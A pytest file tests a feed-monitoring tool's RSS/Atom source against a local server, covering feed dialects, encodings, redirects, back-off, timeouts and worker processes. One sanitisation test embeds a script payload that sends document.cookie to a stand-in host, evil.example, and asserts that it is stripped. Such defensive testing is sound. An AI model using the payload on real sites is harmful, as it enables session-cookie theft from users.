"""The RSS/Atom source against a real feed server on 127.0.0.1, through the real pipeline into SQLite."""

from __future__ import annotations

import json
import logging
import multiprocessing
import os
import signal
import threading
import time
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

import pytest

from monitor.config import ConfigError, load_config
from monitor.health import format_status, status
from monitor.links import canonical_url
from monitor.pipeline import Pipeline
from monitor.source import validate_source_settings
from monitor.store import Store
from sources.feed_entries import html_to_text
from sources.feed_exchange import Exchange, FeedRead
from sources.feed_lanes import Claims, Plan, run_lanes
from sources.feed_schedule import FeedState
from sources.feed_workers import _Batches
from sources.rss import RssSettings, RssSource, client_factory
from tests.servers import feeds as samples
from tests.servers.feeds import FeedServer, atom, drip, padding, rss

# A per-feed interval this short makes every poll find the feed due again.
ALWAYS = 0.001


@dataclass
class Harness:
    store: Store
    source: RssSource
    pipeline: Pipeline

    def cycle(self):
        poll = self.source.poll(self.store.source_state("rss"))
        outcome = self.pipeline.process("rss", poll)
        return poll, outcome

    def state(self, url: str) -> dict:
        return self.store.source_state("rss")[f"feed:{url}"]

    def stored(self, url: str) -> list:
        return self.store.query("SELECT * FROM mentions WHERE source = 'rss' AND source_id LIKE ? ORDER BY id",
                                (f"{url}|%",))


@pytest.fixture
def monitor_feeds(write_config):
    """Build the RSS source and pipeline from a real config file, store in a real SQLite file."""
    built = []

    def make(feed_list: list[dict], **settings) -> Harness:
        config = load_config(write_config({"sources": {"rss": {"feeds": feed_list, **settings}}}))
        rss_settings = RssSettings.model_validate(config.sources["rss"])
        store = Store(config.store_path)
        source = RssSource(settings=rss_settings, client_factory=client_factory(rss_settings))
        harness = Harness(store=store, source=source, pipeline=Pipeline(config=config, store=store))
        built.append(harness)
        return harness

    yield make
    for harness in built:
        harness.source.close()
        harness.store.close()


def complaint_feed(n: int, *, title: str = "Feed") -> str:
    return rss([{"title": f"Acme broke my order {n}", "link": f"https://shop.example/{n}", "guid": f"g{n}",
                 "description": f"Acme sent the wrong item, order {n}. I want a refund."}], title=title)


# -- dialects and encodings --------------------------------------------------

DIALECTS = {
    "/rss091.xml": (samples.RSS_091, "Acme modem dies after a week"),
    "/rss092.xml": (samples.RSS_092, "Ordered from Acme three weeks ago"),
    "/rss10.rdf": (samples.RSS_10_RDF, "Acme firmware update bricked routers"),
    "/rss20.xml": (samples.RSS_20, "still waiting for a refund"),
    "/atom03.xml": (samples.ATOM_03, "Third lost package from Acme"),
    "/atom10.xml": (samples.ATOM_10, "Acme overcharged me twice"),
}


def test_every_dialect_is_read_and_stored(feeds, monitor_feeds):
    urls = {path: feeds.serve(path, body, content_type="application/xml") for path, (body, _) in DIALECTS.items()}
    harness = monitor_feeds([{"url": url} for url in urls.values()])

    poll, outcome = harness.cycle()

    assert poll.failed == {}
    assert sorted(poll.succeeded) == sorted(f"feed:{u}" for u in urls.values())
    for path, (_, phrase) in DIALECTS.items():
        rows = harness.stored(urls[path])
        assert len(rows) == 1, path
        assert phrase in rows[0]["text"], (path, rows[0]["text"])
        assert rows[0]["url"].startswith(("http://", "https://")), rows[0]["url"]
        state = harness.state(urls[path])
        assert state["last_success"] and state["next_poll"] and state["etag"], path
    rdf = harness.stored(urls["/rss10.rdf"])[0]
    assert rdf["author"] == "timothy"
    assert datetime.fromtimestamp(rdf["created_at"], timezone.utc) == datetime(2026, 11, 22, 8, 30, tzinfo=timezone.utc)
    # xml:base resolves the Atom entry's relative link and the link inside its content.
    atom10 = harness.stored(urls["/atom10.xml"])[0]
    assert atom10["url"] == "https://forum.example/community/threads/42#post-1"
    assert "https://forum.example/community/threads/42/receipt" in atom10["text"]
    assert json.loads(atom10["extra"])["canonical_url"] == "https://forum.example/community/threads/42"
    # HTML entities and CDATA in RSS 2.0; the relative link resolved against where the feed was fetched.
    rss20 = harness.stored(urls["/rss20.xml"])[0]
    assert rss20["title"] == "Acme\u2019s new blender: a refund nightmare"
    assert rss20["author"] == "Jo Reviewer"
    assert rss20["url"] == feeds.url + "/2026/11/acme-blender/?utm_source=rss&utm_medium=rss"
    assert json.loads(rss20["extra"])["canonical_url"] == feeds.url + "/2026/11/acme-blender"
    assert f"[Contact]({feeds.url}/contact)" in rss20["text"]
    assert outcome.stored and len(outcome.stored) == len(DIALECTS)


@pytest.mark.parametrize("body, content_type, title, text", [
    (samples.WINDOWS_1252, "application/rss+xml", "Acme caf\u00e9 machine: \u201cnever again\u201d", "Paid \u20ac200"),
    (samples.ISO_8859_1, "text/xml", "Acme in der Stra\u00dfe: sehr \u00e4rgerlich", "\u00c4rgerlich!"),
    # The HTTP header and the XML both claim UTF-8; the bytes are windows-1252.
    (samples.MISDECLARED, "application/rss+xml; charset=utf-8", "Acme na\u00efve pricing",
     "Acme\u2019s na\u00efve pricing cost me \u20ac50"),
    # No XML declaration and no charset anywhere: the bytes happen to be windows-1252.
    (samples.MISDECLARED.split(b"\n", 1)[1], "application/xml", "Acme na\u00efve pricing", "cost me \u20ac50"),
], ids=["windows-1252", "iso-8859-1", "misdeclared", "undeclared"])
def test_non_utf8_encodings_are_decoded(feeds, monitor_feeds, body, content_type, title, text):
    url = feeds.serve("/enc.xml", body, content_type=content_type)
    harness = monitor_feeds([{"url": url}])

    poll, _ = harness.cycle()

    assert poll.failed == {}
    [row] = harness.stored(url)
    assert row["title"] == title
    assert text in row["text"]
    if "utf-8" in body[:40].decode("ascii", "replace"):  # a wrong declaration is recorded as a problem
        assert "CharacterEncodingOverride" in harness.state(url)["last_problem"]


def test_illformed_xml_keeps_the_parsed_entries_and_logs_the_problem(feeds, monitor_feeds, caplog):
    url = feeds.serve("/broken.xml", samples.ILLFORMED)
    harness = monitor_feeds([{"url": url, "name": "Broken blog"}])

    with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
        poll, _ = harness.cycle()

    assert poll.failed == {}
    titles = [r["title"] for r in harness.stored(url)]
    assert titles == ["Acme support hung up on me", "Acme billing is a mess"]
    assert "not well-formed (invalid token)" in harness.state(url)["last_problem"]
    assert any("Broken blog" in r.message and "not well-formed" in r.message for r in caplog.records)


def test_garbage_instead_of_a_feed_is_a_failure_with_a_reason(feeds, monitor_feeds):
    url = feeds.serve("/garbage", b"\x00\x01 this is <<< not xml at all", content_type="application/octet-stream")
    harness = monitor_feeds([{"url": url}])

    poll, _ = harness.cycle()

    assert "not a feed" in poll.failed[f"feed:{url}"]
    assert harness.state(url)["failures"] == 1


def test_html_and_script_become_plain_text_with_links_kept(feeds, monitor_feeds):
    html = ('<div class="post"><h2>Acme &amp; me</h2><p>Acme&#8217;s support <b>ignored</b> me.</p>'
            '<script>document.location="https://evil.example/"+document.cookie</script>'
            '<style>p { color: red }</style><p>Proof: <a href="/proof.png">screenshot</a> and '
            '<a href="https://status.example/acme?utm_campaign=x">status page</a>.</p></div>')
    url = feeds.serve("/html.xml", atom([{"title": "Acme support", "id": "urn:html:1", "link": "/post/1",
                                          "content": html}]))
    harness = monitor_feeds([{"url": url}])

    harness.cycle()

    [row] = harness.stored(url)
    text = row["text"]
    assert "<" not in text and "document.cookie" not in text and "color: red" not in text
    assert "Acme's support ignored me." in text  # html2text writes typographic quotes plainly
    assert "Acme & me" in text
    assert f"[screenshot]({feeds.url}/proof.png)" in text
    assert "https://status.example/acme?utm_campaign=x" in text
    assert row["url"] == feeds.url + "/post/1"


def test_a_feed_listed_twice_is_a_config_error_naming_the_key(write_config):
    config = load_config(write_config({"sources": {"rss": {"feeds": [{"url": "https://a.example/f"},
                                                                     {"url": "https://a.example/f"}]}}}))
    with pytest.raises(ConfigError, match=r"sources\.rss\.feeds: .*https://a\.example/f is listed twice"):
        validate_source_settings(config)


def test_html_to_text_leaves_plain_text_alone():
    assert html_to_text("  Acme is fine  ") == "Acme is fine"
    assert html_to_text("<p>a <a href='x'>b</a></p>", base_url="https://h.example/d/") == \
        "a [b](https://h.example/d/x)"


# -- identity ----------------------------------------------------------------

def test_entry_updated_in_place_is_not_a_new_mention(feeds, monitor_feeds):
    entry = {"title": "Acme lost my bag", "id": "urn:bag:1", "link": "https://blog.example/bag",
             "updated": "2026-11-22T10:00:00Z", "content": "Acme lost my bag."}
    url = feeds.serve("/edits.xml", atom([entry]))
    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
    harness.cycle()

    feeds.serve("/edits.xml", atom([{**entry, "updated": "2026-11-22T12:00:00Z",
                                     "content": "UPDATE: Acme found my bag, still annoyed."}]))
    poll, outcome = harness.cycle()

    assert len(poll.mentions) == 1 and outcome.stored == []
    assert [r["text"] for r in harness.stored(url)] == ["Acme lost my bag."]


def test_entries_without_id_date_or_link_get_stable_ids(feeds, monitor_feeds):
    url = feeds.serve("/bare.xml", samples.BARE_ENTRIES, conditional=False)
    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])

    first, _ = harness.cycle()
    second, outcome = harness.cycle()

    ids = [m.source_id for m in first.mentions]
    assert len(set(ids)) == 2
    assert [m.source_id for m in second.mentions] == ids
    assert outcome.stored == []
    rows = harness.stored(url)
    assert len(rows) == 2
    assert all(r["url"] == url for r in rows)  # no link: the feed itself is the best link there is


def test_a_date_in_the_future_is_taken_as_now(feeds, monitor_feeds):
    url = feeds.serve("/future.xml", rss([{"title": "Acme from the future", "link": "https://f.example/1",
                                           "pubDate": "Fri, 31 Dec 2099 10:00:00 GMT"}]))
    harness = monitor_feeds([{"url": url}])

    harness.cycle()

    [row] = harness.stored(url)
    assert row["created_at"] == row["fetched_at"]


@pytest.mark.parametrize("raw, canonical", [
    ("https://News.Example.COM:443/a/story/?utm_source=rss&utm_medium=feed&id=7&fbclid=abc#comments",
     "https://news.example.com/a/story?id=7"),
    ("http://news.example.com:80/a/story?gclid=1&ref=hn", "http://news.example.com/a/story"),
    ("https://news.example.com/a/story?b=2&a=1", "https://news.example.com/a/story?a=1&b=2"),
    ("https://news.example.com:8443/", "https://news.example.com:8443/"),
    ("https://news.example.com", "https://news.example.com/"),
    ("mailto:someone@example.com", "mailto:someone@example.com"),
    ("not a url", "not a url"),
])
def test_canonical_url(raw, canonical):
    assert canonical_url(raw) == canonical


def test_same_story_in_two_feeds_is_one_story_with_two_sightings(feeds, monitor_feeds):
    a = feeds.serve("/a.xml", rss([{"title": "Acme recall", "link": "https://news.example/recall?utm_source=a",
                                    "guid": "a1", "description": "Acme recalls kettles"}]))
    b = feeds.serve("/b.xml", rss([{"title": "Acme recall!", "link": "https://NEWS.example/recall/#top",
                                    "guid": "b1", "description": "Acme recalls kettles"}]))
    harness = monitor_feeds([{"url": a, "name": "News A"}, {"url": b, "name": "News B"}])

    harness.cycle()

    rows = harness.store.query("SELECT extra, story_id FROM mentions ORDER BY id")
    assert len(rows) == 2
    assert {json.loads(r["extra"])["canonical_url"] for r in rows} == {"https://news.example/recall"}
    # One story, seen in two places: that is what counts toward virality.
    assert rows[0]["story_id"] is not None and rows[0]["story_id"] == rows[1]["story_id"]
    [story] = harness.store.query("SELECT sightings FROM stories WHERE id = ?", (rows[0]["story_id"],))
    assert story["sightings"] == 2


# -- politeness --------------------------------------------------------------

def test_conditional_get_answers_304_and_nothing_is_parsed(feeds, monitor_feeds):
    url = feeds.serve("/cond.xml", complaint_feed(1))
    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])
    harness.cycle()
    first_success = harness.state(url)["last_success"]

    poll, outcome = harness.cycle()

    assert feeds.statuses("/cond.xml") == [200, 304]
    assert feeds.requests[-1][1]["If-None-Match"] == harness.state(url)["etag"]
    assert poll.mentions == [] and poll.succeeded == [f"feed:{url}"]
    assert harness.state(url)["last_success"] >= first_success
    assert len(harness.stored(url)) == 1


def test_last_modified_alone_gives_a_304_too(feeds, monitor_feeds):
    url = feeds.serve("/lm.xml", complaint_feed(1), send_etag=False, last_modified=time.time() - 3600)
    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])

    harness.cycle()
    harness.cycle()

    assert feeds.statuses("/lm.xml") == [200, 304]
    assert "If-None-Match" not in feeds.requests[-1][1]
    assert harness.state(url)["etag"] is None and harness.state(url)["last_modified"]


def test_permanent_redirect_updates_the_stored_url_and_keeps_identity(feeds, monitor_feeds):
    new = feeds.serve("/new.xml", complaint_feed(1))
    old = feeds.serve("/old.xml", b"", status=301, headers={"Location": new}, conditional=False)
    harness = monitor_feeds([{"url": old, "interval": ALWAYS}])

    harness.cycle()
    harness.cycle()

    assert feeds.hits("/old.xml") == 1 and feeds.hits("/new.xml") == 2
    state = harness.state(old)
    assert state["current_url"] == new
    assert f"feed:{new}" not in harness.store.source_state("rss")
    [row] = harness.stored(old)  # the mention still belongs to the configured feed
    assert row["source_id"].startswith(f"{old}|")
    assert "moved to " + new in format_status(status(harness.store, {"rss": 300}))


def test_temporary_redirect_does_not_change_the_stored_url(feeds, monitor_feeds):
    target = feeds.serve("/target.xml", complaint_feed(1))
    temp = feeds.serve("/temp.xml", b"", status=302, headers={"Location": target}, conditional=False)
    # Permanent, then temporary: only the permanent hop counts.
    hop = feeds.serve("/hop.xml", b"", status=308, headers={"Location": temp}, conditional=False)
    harness = monitor_feeds([{"url": temp, "interval": ALWAYS}, {"url": hop, "interval": ALWAYS}], per_host=1)

    harness.cycle()
    harness.cycle()

    assert harness.state(temp)["current_url"] is None
    assert harness.state(hop)["current_url"] == temp
    assert feeds.hits("/temp.xml") == 4 and feeds.hits("/hop.xml") == 1


def test_gone_disables_the_feed_with_a_reason_status_shows(feeds, monitor_feeds, caplog):
    url = feeds.serve("/gone.xml", b"gone", status=410, content_type="text/plain")
    alive = feeds.serve("/alive.xml", complaint_feed(1))
    harness = monitor_feeds([{"url": url, "name": "Dead blog", "interval": ALWAYS}, {"url": alive}])

    with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
        poll, _ = harness.cycle()
    harness.cycle()

    assert "410" in poll.failed[f"feed:{url}"]
    assert feeds.hits("/gone.xml") == 1  # never asked again
    state = harness.state(url)
    assert state["disabled"] is True and "410 Gone" in state["disabled_reason"]
    assert any("Dead blog" in r.message and "disabled" in r.message for r in caplog.records)
    report = format_status(status(harness.store, {"rss": 300}))
    assert f"feed {url}: disabled: 410 Gone" in report and "looked at again 20" in report
    assert f"feed {alive}: ok; last success 20" in report

    # A day later it is looked at again: still gone, then back.
    def a_day_passes():
        states = harness.store.source_state("rss")
        states[f"feed:{url}"]["next_poll"] = "2000-01-01T00:00:00+00:00"
        harness.store.save_source_state("rss", states)

    a_day_passes()
    harness.cycle()
    assert feeds.hits("/gone.xml") == 2 and harness.state(url)["disabled"] is True
    assert harness.state(url)["disabled_reason"] == state["disabled_reason"]  # still "since" the first 410
    feeds.serve("/gone.xml", complaint_feed(7, title="Back"))
    a_day_passes()
    with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
        harness.cycle()
    assert harness.state(url)["disabled"] is False and harness.stored(url)
    assert any("is back" in r.message for r in caplog.records)


@pytest.mark.parametrize("status_code, retry_after, expected_wait", [
    (429, "120", 120),
    (503, "Fri, 31 Dec 2100 23:59:59 GMT", 7 * 86400),  # an HTTP date; this far off is taken as a week
])
def test_retry_after_is_honoured(feeds, monitor_feeds, status_code, retry_after, expected_wait):
    url = feeds.serve("/busy.xml", b"slow down", status=status_code, content_type="text/plain",
                      headers={"Retry-After": retry_after})
    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])

    poll, _ = harness.cycle()
    harness.cycle()

    assert f"HTTP {status_code}" in poll.failed[f"feed:{url}"]
    assert feeds.hits("/busy.xml") == 1  # the second poll waited as told
    state = harness.state(url)
    wait = (datetime.fromisoformat(state["next_poll"]) - datetime.now(timezone.utc)).total_seconds()
    assert expected_wait - 5 <= wait <= expected_wait
    assert state["failures"] == 1 and state["last_error"].startswith(f"HTTP {status_code}")


def test_failures_back_off_exponentially_up_to_the_cap():
    state = FeedState()
    now = datetime(2026, 11, 23, tzinfo=timezone.utc)
    delays = [state.failed(now, "HTTP 500", interval=300, max_backoff=3600) for _ in range(6)]
    assert delays == [300, 600, 1200, 2400, 3600, 3600]
    assert state.failures == 6 and not state.is_due(now + timedelta(seconds=3599))
    assert state.is_due(now + timedelta(seconds=3600))
    state.succeeded(now, interval=300)
    assert state.failures == 0 and state.next_poll == "2026-11-23T00:05:00+00:00"


def test_unreadable_stored_state_makes_the_feed_due_instead_of_breaking_the_poll(feeds, monitor_feeds):
    url = feeds.serve("/st.xml", complaint_feed(1))
    other = feeds.serve("/st2.xml", complaint_feed(2))
    harness = monitor_feeds([{"url": url}, {"url": other}])
    harness.store.save_source_state("rss", {f"feed:{url}": {"next_poll": "next tuesday", "failures": 2},
                                            f"feed:{other}": "not a mapping"})

    poll, _ = harness.cycle()

    assert sorted(poll.succeeded) == sorted([f"feed:{url}", f"feed:{other}"])
    assert datetime.fromisoformat(harness.state(url)["next_poll"]) > datetime.now(timezone.utc)


def test_a_failing_feed_backs_off_and_recovers(feeds, monitor_feeds):
    url = feeds.serve("/flaky.xml", b"oops", status=500, content_type="text/plain")
    harness = monitor_feeds([{"url": url, "interval": ALWAYS}])

    harness.cycle()
    harness.cycle()
    assert harness.state(url)["failures"] == 2
    assert "HTTP 500" in format_status(status(harness.store, {"rss": 300}))

    feeds.serve("/flaky.xml", complaint_feed(1))
    poll, _ = harness.cycle()
    assert poll.succeeded == [f"feed:{url}"]
    assert harness.state(url)["failures"] == 0 and len(harness.stored(url)) == 1


def test_each_feed_keeps_its_own_interval(feeds, monitor_feeds):
    hourly = feeds.serve("/hourly.xml", complaint_feed(1))
    eager = feeds.serve("/eager.xml", complaint_feed(2))
    harness = monitor_feeds([{"url": hourly, "interval": 3600}, {"url": eager, "interval": ALWAYS}], interval=600)

    assert harness.source.interval == ALWAYS  # the job runs as often as the most eager feed wants
    harness.cycle()
    poll, _ = harness.cycle()

    assert feeds.hits("/hourly.xml") == 1 and feeds.hits("/eager.xml") == 2
    assert poll.succeeded == [f"feed:{eager}"]
    next_poll = datetime.fromisoformat(harness.state(hourly)["next_poll"])
    assert 3590 < (next_poll - datetime.now(timezone.utc)).total_seconds() <= 3600


def test_a_feed_taken_out_of_the_config_is_forgotten_and_its_mentions_kept(feeds, monitor_feeds):
    kept, dropped = feeds.serve("/kept.xml", complaint_feed(1)), feeds.serve("/dropped.xml", complaint_feed(2))
    before = monitor_feeds([{"url": kept}, {"url": dropped}])
    before.cycle()
    assert set(before.store.source_state("rss")) == {f"feed:{kept}", f"feed:{dropped}"}

    # The operator edits config.yaml and restarts; the store file stays the same.
    after = monitor_feeds([{"url": kept, "interval": ALWAYS}])
    assert after.store.path == before.store.path
    after.cycle()
    assert set(after.store.source_state("rss")) == {f"feed:{kept}"}
    assert len(after.stored(dropped)) == 1, "what the feed brought stays in the store"


def test_a_run_a_little_early_still_polls_the_feed_but_an_immediate_rerun_does_not(feeds, monitor_feeds):
    url = feeds.serve("/sched.xml", complaint_feed(1))
    harness = monitor_feeds([{"url": url}], interval=60)  # a run may come up to half an interval early
    harness.cycle()
    harness.cycle()  # right away: not due
    assert feeds.hits("/sched.xml") == 1

    # The next run fires 20 s before the feed is due (scheduler jitter, a slow poll before it): it still
    # polls, rather than leaving the feed for a whole interval more. Set in the stored state, not slept.
    states = harness.store.source_state("rss")
    states[f"feed:{url}"]["next_poll"] = (datetime.now(timezone.utc) + timedelta(seconds=20)).isoformat()
    harness.store.save_source_state("rss", states)
    harness.cycle()
    assert feeds.hits("/sched.xml") == 2


# -- unbreakable -------------------------------------------------------------

def test_a_50_mb_body_is_cut_off_at_the_limit_and_its_entries_kept(feeds, monitor_feeds, caplog):
    head = complaint_feed(1).replace("</channel></rss>", "")
    url = feeds.serve("/huge.xml", head, stream=padding(50_000_000), conditional=False)
    harness = monitor_feeds([{"url": url}])  # the default max_bytes: 10 MB

    with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
        poll, _ = harness.cycle()

    assert poll.failed == {}
    assert len(harness.stored(url)) == 1
    assert "cut off at 10000000 bytes" in harness.state(url)["last_problem"]
    assert any("cut off" in r.message for r in caplog.records)


@pytest.mark.parametrize("encoding", ["gzip", "deflate"])
def test_compressed_bodies(feeds, monitor_feeds, encoding):
    url = feeds.serve("/packed.xml", samples.ATOM_10, compress=encoding, content_type="application/atom+xml")
    harness = monitor_feeds([{"url": url}])

    poll, _ = harness.cycle()

    assert poll.failed == {}
    assert "Acme overcharged me twice" in harness.stored(url)[0]["text"]


def run_to_completion(harness: Harness, *, within: float):
    """One cycle in a thread; fails the test instead of hanging it if the cycle never finishes."""
    finished = threading.Event()
    result = {}

    def run():
        result["poll"], _ = harness.cycle()
        finished.set()

    threading.Thread(target=run, daemon=True).start()
    assert finished.wait(within), "the cycle never finished"
    return result["poll"]


def test_hanging_and_dripping_feeds_time_out_without_blocking_the_others(feeds, monitor_feeds):
    with FeedServer() as stuck:  # another port: another host, as far as politeness goes
        hang = stuck.serve("/hang.xml", complaint_feed(0), delay=3600)
        slow = stuck.serve("/drip.xml", complaint_feed(0).replace("</rss>", ""), stream=drip(0.05),
                           conditional=False)
        good = [feeds.serve(f"/ok{n}.xml", complaint_feed(n)) for n in range(1, 21)]
        harness = monitor_feeds([{"url": hang}, {"url": slow}, *({"url": u} for u in good)],
                                timeout=1, deadline=2)

        poll = run_to_completion(harness, within=60)

    assert "Timeout" in poll.failed[f"feed:{hang}"]
    assert "DeadlineExceeded" in poll.failed[f"feed:{slow}"]
    assert sorted(poll.succeeded) == sorted(f"feed:{u}" for u in good)
    assert all(len(harness.stored(u)) == 1 for u in good)
    assert "Timeout" in harness.state(hang)["last_error"]


def test_a_host_that_keeps_timing_out_is_skipped_for_the_rest_of_the_poll(feeds, monitor_feeds):
    with FeedServer() as down:
        dead = [down.serve(f"/dead{n}.xml", complaint_feed(n), delay=3600) for n in range(6)]
        alive = feeds.serve("/alive.xml", complaint_feed(9))
        harness = monitor_feeds([*({"url": u} for u in dead), {"url": alive}], timeout=1, per_host=1)

        poll = run_to_completion(harness, within=60)

        assert len(down.requests) == 2  # two timeouts, then the host's other feeds wait for the next poll
    skipped = [u for u in dead if "HostSkipped" in poll.failed[f"feed:{u}"]]
    assert len(skipped) == 4
    assert all(harness.state(u)["failures"] == 1 and harness.state(u)["next_poll"] for u in skipped)
    assert poll.succeeded == [f"feed:{alive}"]


# -- scale and politeness per host -------------------------------------------

def test_feeds_are_fetched_concurrently_but_at_most_per_host_at_once(feeds, monitor_feeds):
    urls = [feeds.serve(f"/slow{n}.xml", complaint_feed(n), delay=0.2) for n in range(8)]
    harness = monitor_feeds([{"url": u} for u in urls], per_host=2, workers=8)

    poll, outcome = harness.cycle()

    assert len(poll.succeeded) == 8 and len(outcome.stored) == 8
    assert feeds.max_in_flight == 2


def test_lanes_spread_work_across_hosts_within_limits():
    in_flight: dict[str, int] = {}
    peak: dict[str, int] = {}
    total_peak = [0]
    lock = threading.Lock()

    jobs = [(f"h{n % 5}", n) for n in range(40)]
    done = []

    def work(index):
        host, n = jobs[index]
        with lock:
            in_flight[host] = in_flight.get(host, 0) + 1
            peak[host] = max(peak.get(host, 0), in_flight[host])
            total_peak[0] = max(total_peak[0], sum(in_flight.values()))
        time.sleep(0.02)
        with lock:
            in_flight[host] -= 1
        return Exchange(status=200)

    plan = Plan.of([host for host, _ in jobs])
    run_lanes(Claims.local(plan, skip_after=2), plan.lanes(2), threads=6, taker=0, exchange=work,
              answered=lambda index, answer: done.append(jobs[index][1]))

    assert sorted(done) == list(range(40))
    assert max(peak.values()) == 2 and total_peak[0] <= 6


def test_status_shows_each_feeds_last_success_error_and_next_poll(feeds, monitor_feeds):
    ok = feeds.serve("/fine.xml", complaint_feed(1))
    down = feeds.serve("/down.xml", b"", status=502, content_type="text/plain")
    harness = monitor_feeds([{"url": ok}, {"url": down}])

    harness.cycle()

    report = format_status(status(harness.store, {"rss": 300}))
    # Every time in status reads alike, whatever form its source stored it in.
    ok_state, down_state = ({k: f"{datetime.fromisoformat(v):%Y-%m-%d %H:%M:%S} UTC" for k, v in harness.state(u).items()
                             if k in ("last_success", "next_poll", "last_error_at") and v} for u in (ok, down))
    assert (f"feed {ok}: ok; last success {ok_state['last_success']}; last error none;"
            f" mentions last hour 1; next poll {ok_state['next_poll']}") in report
    assert (f"feed {down}: failing; last success never; last error {down_state['last_error_at']}:"
            f" HTTP 502 Bad Gateway (1 in a row); mentions last hour 0; next poll {down_state['next_poll']}") in report


def poll_with(settings: RssSettings, processes: int, caplog, state: dict | None = None):
    """One poll by a new source with ``processes`` workers (started before it: the poll uses them, not the
    daemon's own client while they import), and the warnings it logged."""
    source = RssSource(settings=settings, client_factory=client_factory(settings), processes=processes)
    try:
        source.workers.start()
        assert source.workers.wait_ready(), "the worker processes never started"
        with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
            caplog.clear()
            poll = source.poll(state or {})
            return poll, sorted(r.getMessage() for r in caplog.records), source.workers.served
    finally:
        source.close()


def test_feeds_fetched_and_read_in_worker_processes_give_what_the_daemons_own_process_gives(feeds, caplog):
    """The exchange in the daemon's own process (httpx, feedparser and html2text there) is the oracle for the
    worker processes: the same mentions, failures, state and logs."""
    bodies = {**{path: body for path, (body, _) in DIALECTS.items()}, "/broken.xml": samples.ILLFORMED,
              "/enc.xml": samples.WINDOWS_1252, "/garbage": b"\x00\x01 this is <<< not xml at all"}
    urls = [feeds.serve(path, body, content_type="application/xml") for path, body in bodies.items()]
    moved = feeds.serve("/moved.xml", b"", status=301, headers={"Location": urls[0]}, conditional=False)
    busy = feeds.serve("/busy.xml", b"", status=429, headers={"Retry-After": "120"}, conditional=False)
    gone = feeds.serve("/gone.xml", b"", status=410, conditional=False)
    settings = RssSettings(feeds=[{"url": u} for u in [*urls, moved, busy, gone]])
    (here, here_logs, here_served), (workers, worker_logs, worker_served) = (
        poll_with(settings, processes, caplog) for processes in (1, 2))

    def comparable(mention):
        # An entry without a date is as old as its poll: the two polls ran at different moments.
        undated = mention.created_at == mention.fetched_at
        return {k: "now" if k == "created_at" and undated else getattr(mention, k)
                for k in mention.__slots__ if k != "fetched_at"}

    def state(poll):  # without the times of the poll
        return {key: {k: v for k, v in feed.items() if k in ("etag", "last_modified", "current_url", "disabled",
                                                             "failures", "last_error", "last_problem")}
                for key, feed in poll.state.items()}
    assert here_served == {} and sum(worker_served.values()) == len(settings.feeds), "each poll where it says"
    assert sorted(map(repr, map(comparable, workers.mentions))) == sorted(map(repr, map(comparable, here.mentions)))
    assert len(here.mentions) >= len(DIALECTS) + 2
    assert workers.failed == here.failed and len(here.failed) == 3  # garbage, 429, 410
    assert state(workers) == state(here) and state(here)[f"feed:{moved}"]["current_url"] == urls[0]
    assert [s.split("next try")[0] for s in worker_logs] == [s.split("next try")[0] for s in here_logs]
    assert any("not well-formed" in m for m in worker_logs), "what a worker logs is logged here"


def test_at_most_per_host_requests_at_once_across_worker_processes(feeds, caplog):
    urls = [feeds.serve(f"/slow{n}.xml", complaint_feed(n), delay=0.1) for n in range(16)]
    settings = RssSettings(feeds=[{"url": u} for u in urls], per_host=2, workers=16)

    poll, _, served = poll_with(settings, 2, caplog)

    assert len(poll.succeeded) == 16 and len(poll.mentions) == 16
    assert len(served) == 2 and all(served.values()), "both worker processes fetched"
    assert feeds.max_in_flight == 2


def test_a_hanging_feed_holds_only_its_lane_not_the_hosts_other_lane_in_another_process(feeds, caplog):
    hang = feeds.serve("/hang.xml", complaint_feed(0), delay=3600)
    quick = [feeds.serve(f"/quick{n}.xml", complaint_feed(n)) for n in range(1, 13)]
    settings = RssSettings(feeds=[{"url": u} for u in [hang, *quick]], per_host=2, timeout=120)
    result = {}
    polling = threading.Thread(target=lambda: result.update(poll=poll_with(settings, 2, caplog)[0]), daemon=True)
    polling.start()

    # Every quick feed is answered while the hanging one still hangs: it never answers until the server stops.
    give_up_at = time.monotonic() + 60
    while len([p for p, _ in feeds.answers if p.startswith("/quick")]) < len(quick) and time.monotonic() < give_up_at:
        time.sleep(0.05)
    answered_while_hanging = sorted(p for p, _ in feeds.answers)
    feeds.stopping.set()  # the hanging answer ends: its connection closes without an answer
    polling.join(60)

    assert answered_while_hanging == sorted(f"/quick{n}.xml" for n in range(1, 13))
    assert sorted(result["poll"].succeeded) == sorted(f"feed:{u}" for u in quick)
    assert list(result["poll"].failed) == [f"feed:{hang}"]


def test_a_worker_process_killed_mid_poll_loses_no_feed(feeds, caplog):
    """Killed (the OOM killer, an operator) while it holds feeds: they are fetched again in the daemon's process,
    with a warning saying why; the next poll has new workers."""
    slow = [feeds.serve(f"/slow{n}.xml", complaint_feed(n), delay=1) for n in range(4)]
    settings = RssSettings(feeds=[{"url": u} for u in slow], per_host=4)
    source = RssSource(settings=settings, client_factory=client_factory(settings), processes=2)
    try:
        source.workers.start()
        assert source.workers.wait_ready()
        killed = source.workers.pids
        result = {}
        with caplog.at_level(logging.WARNING, logger="complaint_monitor.sources.rss"):
            polling = threading.Thread(target=lambda: result.update(poll=source.poll({})), daemon=True)
            polling.start()
            give_up_at = time.monotonic() + 30
            while feeds.in_flight < 4 and time.monotonic() < give_up_at:
                time.sleep(0.01)
            assert feeds.in_flight == 4, "every feed is in a worker's hands"
            for pid in killed:
                os.kill(pid, signal.SIGKILL)
            polling.join(60)
        poll = result["poll"]
        assert sorted(poll.succeeded) == sorted(f"feed:{u}" for u in slow) and len(poll.mentions) == 4
        assert all(feeds.hits(f"/slow{n}.xml") == 2 for n in range(4)), "each fetched again after the kill"
        refetched = [m for m in (r.getMessage() for r in caplog.records) if "fetching it in the daemon's own" in m]
        assert len(refetched) == 4 and all("stopped (exit code -9) while fetching it" in m for m in refetched)

        source.workers.start()  # the next poll: new workers, not the dead ones
        assert source.workers.wait_ready() and set(source.workers.pids).isdisjoint(killed)
        assert len(source.workers.pids) == 2
    finally:
        source.close()


